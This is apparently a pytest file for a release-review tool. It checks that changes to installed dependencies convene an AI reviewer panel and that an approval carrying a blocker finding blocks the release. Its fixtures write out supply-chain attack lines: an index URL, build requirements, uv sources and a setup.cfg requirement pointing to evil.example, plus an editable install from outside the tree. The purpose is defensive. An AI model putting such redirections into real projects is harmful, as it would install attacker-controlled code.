"""When the review panel convenes and when it blocks, through `genops review` on a released
workspace answered by the fake provider: with `when = "high_risk"` and only the dependency rule on,
any change to what the tree installs (an index, a local path or URL dependency, a build
requirement, a setup.cfg requirement, a requirements file in a folder) convenes the panel; and a
reviewer that approves but reports a blocker finding blocks, under either policy."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from release_helpers import PYPROJECT, genops, in_process_env, make_workspace, workspace

from genops.release.pipeline import regenerate

REVIEW_ASKED = "as one member of a release review panel"
APPROVE = json.dumps({"verdict": "approve", "findings": []})
APPROVE_WITH_BLOCKER = json.dumps({"verdict": "approve", "findings": [
    {"file": "hello/__init__.py", "line": 7, "severity": "blocker", "requirement": "REQ-GREET-2",
     "adr": None, "rationale": "whitespace passes as a name"}]})
PANEL = """
[models.reviewer]
provider = "fake"
model = "fake-1"
max_output_tokens = 2000

[review.panel]
rungs = ["reviewer"]
when = "{when}"
quorum = 1
block_on = "{block_on}"

[review.high_risk]
breaking = false
adr_modules = false
dependencies = true
changed_share = 1.0
"""


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory, venv_cache: Path) -> Path:
    """r0001 of the hello workspace, no panel yet (each test copies it)."""
    with in_process_env(venv_cache):
        root = make_workspace(tmp_path_factory.mktemp("triggers"))
        outcome = regenerate(workspace(root), reason="first")
    assert outcome.status == "promoted"
    return root


def _copy(released: Path, tmp_path: Path, *, when: str, block_on: str = "any_blocker",
          answer: str = APPROVE) -> Path:
    root = Path(shutil.copytree(released, tmp_path / "ws", symlinks=True))
    with open(root / "genops.toml", "a", encoding="utf-8") as toml:
        toml.write(PANEL.format(when=when, block_on=block_on))
    path = root / ".genops" / "fake-responses.json"
    replies = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps({REVIEW_ASKED: answer} | replies), encoding="utf-8")
    return root


def _review(root: Path) -> tuple[int, dict]:
    result = genops(root, "review", "r0001", "--format", "json")
    assert result.stdout, result.stderr
    return result.returncode, json.loads(result.stdout)["results"][0]


PYPROJECT_WITH = PYPROJECT + "\n{extra}\n"
EDITS = [  # (id, file in the output tree, its new text, the file the reason names)
    ("index in requirements.txt", "requirements.txt",
     "--index-url https://evil.example/simple\n", "requirements.txt"),
    ("local path outside the tree", "requirements.txt", "-e ../outside\n", "requirements.txt"),
    ("URL build requirement", "pyproject.toml", PYPROJECT_WITH.format(
        extra='[build-system]\nrequires = ["setuptools @ https://evil.example/st.tar.gz"]'),
     "pyproject.toml"),
    ("uv source URL", "pyproject.toml", PYPROJECT_WITH.format(
        extra='[tool.uv.sources]\npytest = { url = "https://evil.example/pytest.tar.gz" }'),
     "pyproject.toml"),
    ("uv index", "pyproject.toml", PYPROJECT_WITH.format(
        extra='[[tool.uv.index]]\nname = "mirror"\nurl = "https://evil.example/simple"'),
     "pyproject.toml"),
    ("setup.cfg URL requirement", "setup.cfg",
     "[options]\ninstall_requires =\n    evil @ https://evil.example/evil.tar.gz\n", "setup.cfg"),
    ("requirements file in a folder", "docs/requirements.txt",
     "sphinx==7.2.6; python_version >= '3.10'\n", "docs/requirements.txt"),
]


@pytest.mark.parametrize(("rel", "text", "named"), [e[1:] for e in EDITS], ids=[e[0] for e in EDITS])
def test_a_dependency_change_convenes_the_high_risk_panel(released: Path, tmp_path: Path, rel: str,
                                                          text: str, named: str) -> None:
    root = _copy(released, tmp_path, when="high_risk")
    target = root / "generated" / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text, encoding="utf-8")
    code, panel = _review(root)
    assert code == 0 and panel["verdict"] == "pass", panel
    assert "1 of 1 reviewers approve" in panel["summary"]
    assert "dependency change(s) in " in panel["summary"] and named in panel["summary"]


def test_an_unchanged_tree_does_not_convene_it(released: Path, tmp_path: Path) -> None:
    code, panel = _review(_copy(released, tmp_path, when="high_risk"))
    assert code == 0 and panel["verdict"] == "skip" and "not high risk" in panel["summary"]


@pytest.mark.parametrize("block_on", ["any_blocker", "majority"])
def test_an_approval_with_a_blocker_finding_blocks(released: Path, tmp_path: Path,
                                                   block_on: str) -> None:
    root = _copy(released, tmp_path, when="always", block_on=block_on,
                 answer=APPROVE_WITH_BLOCKER)
    code, panel = _review(root)
    assert code == 1 and panel["verdict"] == "fail", panel
    assert "request changes or report a blocker: reviewer (fake fake-1) approves but reports " \
           "1 blocker finding(s)" in panel["summary"]
    assert [f["severity"] for f in panel["findings"]] == ["error"]
